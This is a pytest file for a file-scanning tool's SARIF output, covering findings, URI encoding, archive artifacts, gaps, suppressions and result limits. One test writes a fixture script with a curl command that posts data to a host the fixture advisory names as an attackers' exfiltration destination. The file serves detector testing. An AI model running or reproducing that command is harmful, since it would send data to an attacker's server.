# SPDX-License-Identifier: Apache-2.0
"""-o sarif: valid, says what the records say, keeps the limits of code scanning."""

import base64
import io
import json
import os
import tarfile
import warnings
import zipfile

import pytest
import sarif_check
import sweep
from conftest import CANARY, RULES
from sweep import EXIT_CLEAN, EXIT_FAILED, EXIT_FINDINGS, EXIT_GAPS

LOWBIRD = b"sweeper-lowbird-7731"


@pytest.fixture
def sarif(scan, place):
    """sarif(*args): (the run of the document, the result of the sweep)."""

    def call(*args, **keywords):
        out = place / "out.sarif"
        out.unlink(missing_ok=True)
        result = scan("-o", "jsonl", "-o", f"sarif={out}", *args, **keywords)
        return sarif_check.check(out), result

    return call


def tar_of(members):
    data = io.BytesIO()
    with tarfile.open(fileobj=data, mode="w") as archive:
        for name, content in members:
            info = tarfile.TarInfo(name)
            info.size = len(content)
            archive.addfile(info, io.BytesIO(content))
    return data.getvalue()


def zip_of(members):
    data = io.BytesIO()
    with warnings.catch_warnings(), zipfile.ZipFile(data, "w", zipfile.ZIP_DEFLATED) as archive:
        warnings.simplefilter("ignore")  # a name twice is what some ask for
        for name, content in members:
            archive.writestr(name, content)
    return data.getvalue()


def notes(run, kind):
    return [row for row in run["invocations"][0]["toolExecutionNotifications"]
            if row["descriptor"]["id"].startswith(kind)]


def test_results_are_the_findings(tree, sarif):
    (tree / "high").write_bytes(CANARY)
    (tree / "low").write_bytes(LOWBIRD)
    (tree / "info").write_bytes(b"sweeper-infobird-7731")
    run, result = sarif(tree)
    assert result.code == EXIT_FINDINGS
    assert {r["partialFingerprints"]["findingId/v1"] for r in run["results"]} == {
        f["id"] for f in result.findings}
    assert {r["properties"]["locator"]: (r["level"], r["ruleId"].split(".")[-1])
            for r in run["results"]} == {
        f"{tree}/high": ("error", "Canary"), f"{tree}/low": ("note", "CanaryLow"),
        f"{tree}/info": ("note", "CanaryInfo")}
    by_name = {rule["name"]: rule for rule in run["tool"]["driver"]["rules"]}
    assert by_name["Canary"]["properties"]["tags"] == ["security", "canary", "test", "harmless"]
    assert by_name["Canary"]["properties"]["family"] == "canary"
    record = {f["locator"]: f for f in result.findings}
    for row in run["results"]:
        finding = record[row["properties"]["locator"]]
        for name in ("severity", "kind", "family", "chain", "matches", "match_count", "object"):
            assert row["properties"][name] == finding[name]
        regions = [r["physicalLocation"]["region"] for r in row["relatedLocations"]]
        assert regions == [{"byteOffset": m["offset"], "byteLength": m["length"]}
                           for m in finding["matches"]]
    (invocation,) = run["invocations"]
    assert invocation["exitCode"] == 1 and invocation["executionSuccessful"] is True
    assert invocation["properties"]["findings"] == result.end["findings"]
    assert run["tool"]["driver"]["version"] == result.start["version"]


def test_an_empty_sweep_has_empty_lists(tree, sarif):
    run, result = sarif(tree)
    assert result.code == EXIT_CLEAN
    assert run["results"] == run["artifacts"] == run["tool"]["driver"]["rules"] == []
    assert run["invocations"][0]["toolExecutionNotifications"] == []
    assert run["invocations"][0]["executionSuccessful"] is True


def test_uris_are_relative_to_where_the_sweep_was_started(tree, place, sarif):
    (tree / "sub").mkdir()
    (tree / "sub/a").write_bytes(CANARY)
    run, _ = sarif("sub", cwd=tree)
    (result,) = run["results"]
    location = result["locations"][0]["physicalLocation"]["artifactLocation"]
    assert location == {"uri": "sub/a", "uriBaseId": "SRCROOT", "index": 0}
    assert run["originalUriBaseIds"]["SRCROOT"]["uri"] == f"file://{tree}/"
    elsewhere = place / "tree and more"  # shares letters with the tree, and is not below it
    elsewhere.mkdir()
    run, _ = sarif(tree, cwd=elsewhere)
    location = run["results"][0]["locations"][0]["physicalLocation"]["artifactLocation"]
    assert location == {"uri": f"file://{tree}/sub/a", "index": 0}
    assert run["originalUriBaseIds"]["SRCROOT"]["uri"].endswith("/tree%20and%20more/")
    run, _ = sarif(tree, cwd="/")
    assert run["originalUriBaseIds"]["SRCROOT"]["uri"] == "file:///"
    assert run["results"][0]["locations"][0]["physicalLocation"]["artifactLocation"]["uri"] == (
        f"{tree}/sub/a"[1:])


NAMES = [b"a b", b"a:b", b"a%20b", b"a#b?c", b"\xff\xfe", b"a\nb", "ö\u202eb".encode(), b"a!b",
         b"[x](http:..e)", b"{0}", b"\\", b"..a", b"'\"<>"]


def test_any_name_can_stand_in_a_uri(tree, sarif):
    for name in NAMES:
        with open(os.fsencode(tree) + b"/" + name, "wb") as file:
            file.write(CANARY)
    run, result = sarif(".", cwd=tree)
    from urllib.parse import unquote_to_bytes
    uris = [r["locations"][0]["physicalLocation"]["artifactLocation"]["uri"]
            for r in run["results"]]
    assert {unquote_to_bytes(uri) for uri in uris} == set(NAMES)
    assert len(result.findings) == len(NAMES)


def test_members_are_nested_artifacts(tree, sarif):
    inner = zip_of([("../up/x y.txt", CANARY), ("clean", b"clean")])
    (tree / "image.tar").write_bytes(tar_of([("layers/in.zip", inner), ("/abs//b", CANARY)]))
    run, _ = sarif("image.tar", cwd=tree)
    ways = [sarif_check.place_of(run, r["relatedLocations"][0]["physicalLocation"]
                                 ["artifactLocation"]["index"]) for r in run["results"]]
    assert ["image.tar", "/layers/in.zip", "/%2E%2E/up/x%20y.txt"] in ways
    assert ["image.tar", "/abs/%2Fb"] in ways
    assert {r["locations"][0]["physicalLocation"]["artifactLocation"]["uri"]
            for r in run["results"]} == {"image.tar"}
    for result in run["results"]:
        index = result["relatedLocations"][0]["physicalLocation"]["artifactLocation"]["index"]
        assert run["artifacts"][index]["hashes"]["sha-256"] == (
            result["properties"]["object"]["sha256"])


def test_each_object_is_one_artifact(tree, sarif):
    """A container that is a finding itself, and a name that sorts between it and its members."""
    (tree / "a").write_bytes(tar_of([("x", CANARY), ("y", CANARY + LOWBIRD)]))
    (tree / "a b").write_bytes(CANARY)
    run, result = sarif(".", cwd=tree)
    ways = sorted(sarif_check.place_of(run, i) for i in range(len(run["artifacts"])))
    assert ways == [["a"], ["a", "/x"], ["a", "/y"], ["a%20b"]]
    assert len(run["results"]) == len(result.findings) >= 5


def test_twins_are_two_artifacts(tree, sarif):
    other = CANARY + b" and more"
    boxes = [tar_of([("in", CANARY)]), tar_of([("in", CANARY), ("on", CANARY)])]
    (tree / "a.zip").write_bytes(zip_of(
        [("x", CANARY), ("x", other), ("x", CANARY + LOWBIRD), ("b", boxes[0]), ("b", boxes[1])]))
    run, result = sarif(tree)
    for row in run["results"]:
        if not row.get("relatedLocations"):
            continue
        index = row["relatedLocations"][0]["physicalLocation"]["artifactLocation"]["index"]
        assert run["artifacts"][index]["hashes"]["sha-256"] == row["properties"]["object"]["sha256"]
    digests = [a["hashes"]["sha-256"] for a in run["artifacts"]
               if a.get("location", {}).get("uri") == "/x"]
    assert len(digests) == len(set(digests)) >= 2
    assert len(run["results"]) == len(result.findings)


def test_decoded_runs_are_known_by_their_offset(tree, sarif):
    (tree / "a.txt").write_bytes(b"x = '" + base64.b64encode(CANARY * 4) + b"'\n")
    run, _ = sarif(tree)
    (artifact,) = [a for a in run["artifacts"] if "parentIndex" in a]
    assert artifact["offset"] == 5 and artifact["description"]["text"] == "base64@5"


def test_gaps_are_notifications(tree, sarif):
    (tree / "large [x](http:y) {0}").write_bytes(b"." * 2000)
    run, result = sarif("--max-file-size", "1K", tree, cwd=tree)
    assert result.code == EXIT_GAPS
    (gap,) = notes(run, "gap/")
    assert gap["descriptor"]["id"] == "gap/limit_size" and gap["level"] == "error"
    assert gap["properties"]["locator"] == result.gaps[0]["locator"]
    location = gap["locations"][0]["physicalLocation"]["artifactLocation"]
    assert location["uri"] == "large%20%5Bx%5D%28http%3Ay%29%20%7B0%7D"
    assert run["invocations"][0]["executionSuccessful"] is False
    run, result = sarif("--max-file-size", "1K", "--allow-gaps", tree)
    assert result.code == EXIT_CLEAN
    assert [gap["level"] for gap in notes(run, "gap/")] == ["warning"]
    assert run["invocations"][0]["executionSuccessful"] is True


def test_suppressed_findings_are_marked(tree, place, sarif):
    (tree / "a").write_bytes(CANARY)
    (tree / "b").write_bytes(CANARY + b"2")
    known = place / "known.json"
    known.write_text(json.dumps({"schema": "1.0", "suppressions": [
        {"id": "e1", "path": "a", "reason": "ours", "until": "2999-12-31"}]}))
    run, _ = sarif("--suppress", known, "--show-suppressed", tree)
    marks = {r["properties"]["locator"]: r.get("suppressions") for r in run["results"]}
    assert marks == {f"{tree}/b": None, f"{tree}/a": [
        {"kind": "external", "status": "accepted", "justification": "ours",
         "properties": {"until": "2999-12-31", "entry": "e1"}}]}
    run, _ = sarif("--suppress", known, tree)
    assert [r["properties"]["locator"] for r in run["results"]] == [f"{tree}/b"]


HOST = ".".join(["models", "litellm", "cloud"])  # not in one piece: this file is swept, too


def test_a_severity_by_place_has_a_rule_of_its_own(tree, place):
    """Code scanning takes the severity from the rule: a mention in prose must not show as
    what the rule says of code."""
    prose = ("In March the attackers sent what they had taken to " + HOST + ", a name that "
             "looks like one of the project. Whoever finds it in the logs of a proxy should treat "
             "every credential of that machine as known to others.\n")
    (tree / "README.md").write_text("# Advisory\n\n" + "\n".join([prose] * 8))
    (tree / "run.sh").write_text(f"#!/bin/sh\ncurl https://{HOST}/ -d x\n")
    out = place / "out.sarif"
    result = sweep.scan("-o", "jsonl", "-o", f"sarif={out}", tree)
    run = sarif_check.check(out)
    own = {f["locator"]: f["rule_severity"] == f["severity"] for f in result.findings}
    assert True in own.values() and False in own.values()
    for row in run["results"]:
        assert ("/" in row["ruleId"]) != own[row["properties"]["locator"]]


def without_times(run):
    run = json.loads(json.dumps(run))
    for name in ("startTimeUtc", "endTimeUtc", "arguments", "properties"):
        run["invocations"][0].pop(name)
    return run


def test_the_same_for_any_number_of_threads(tree, sarif):
    for number in range(60):
        (tree / f"f{number}").write_bytes(CANARY + b"%d" % number)
        (tree / f"f{number}.tar").write_bytes(tar_of([("a", LOWBIRD), ("b", CANARY)]))
    runs = [without_times(sarif("-j", threads, tree)[0])
            for threads in (("1", "7") if sweep.LEAN else ("1", "2", "7"))]
    assert all(run == runs[0] for run in runs)


@pytest.mark.slow
def test_more_than_code_scanning_takes(tree, place):
    """25,000 results: the worst ones; what is left out is said, and counted."""
    rules = place / "many.yar"
    rules.write_text(RULES + "".join(
        f'rule Low{i} {{ meta: severity = "low" strings: $a = "{LOWBIRD.decode()}" condition: $a }}\n'
        for i in range(19)))
    for number in range(1251):
        (tree / f"f{number}").write_bytes(LOWBIRD + b"%d" % number)
    (tree / "zz-last").write_bytes(CANARY)
    for number in range(10_050):
        (tree / f"g{number}").write_bytes(b"." * 1100)
    out = place / "out.sarif"
    result = sweep.scan("--no-builtin-rules", "--rules", rules, "--max-file-size", "1K",
                        "-o", f"sarif={out}", tree, records=False, timeout=600)
    assert result.code == EXIT_FINDINGS
    run = sarif_check.check(out)
    assert len(run["results"]) == 25_000
    assert [r["properties"]["locator"] for r in run["results"] if r["level"] == "error"] == [
        f"{tree}/zz-last"]
    said = [row["message"]["text"] for row in notes(run, "sarif_limit")]
    assert any(text.startswith("21 of 25021 findings") for text in said)
    assert any("worst 5000 of 25000" in text for text in said)
    assert any(text.startswith("50 more gaps") for text in said)
    assert len(notes(run, "gap/")) == 10_000


def test_matches_are_left_out_when_the_document_grows(tree, place):
    """Each file gives a record of about 900 KB that hardly compresses."""
    rules = place / "big.yar"
    rules.write_text('rule Big { strings: $a = /KEY[^K]{240,250}/s condition: $a }')
    for number in range(16):
        noise = os.urandom(260 * 2300).replace(b"K", b"L")
        (tree / f"f{number:02}").write_bytes(
            b"".join(b"KEY" + noise[i * 250:i * 250 + 250] for i in range(2300)))
    out = place / "out.sarif"
    result = sweep.scan("--no-builtin-rules", "--rules", rules, "--max-matches", "4000",
                        "--no-decode", "-o", f"sarif={out}", tree, records=False)
    assert result.code == EXIT_FINDINGS
    run = sarif_check.check(out)
    whole = ["matches" in r["properties"] for r in run["results"]]
    assert len(whole) == 16 and whole == sorted(whole, reverse=True)
    assert whole[0] and not whole[-1]
    (said,) = notes(run, "sarif_limit")
    assert said["message"]["text"].startswith(f"{whole.count(False)} results are without")
    assert all(len(r.get("relatedLocations", [])) <= 100 for r in run["results"])


def test_a_full_disk_is_no_document(tree, scan):
    (tree / "a").write_bytes(CANARY)
    result = scan("-o", "sarif=/dev/full", tree, records=False)
    assert result.code == EXIT_FAILED and "/dev/full" in result.stderr


def test_on_standard_output(tree, scan, place):
    (tree / "a").write_bytes(CANARY)
    result = scan("-o", "sarif", tree, records=False)
    out = place / "copy.sarif"
    out.write_bytes(result.stdout)
    assert len(sarif_check.check(out)["results"]) == 1
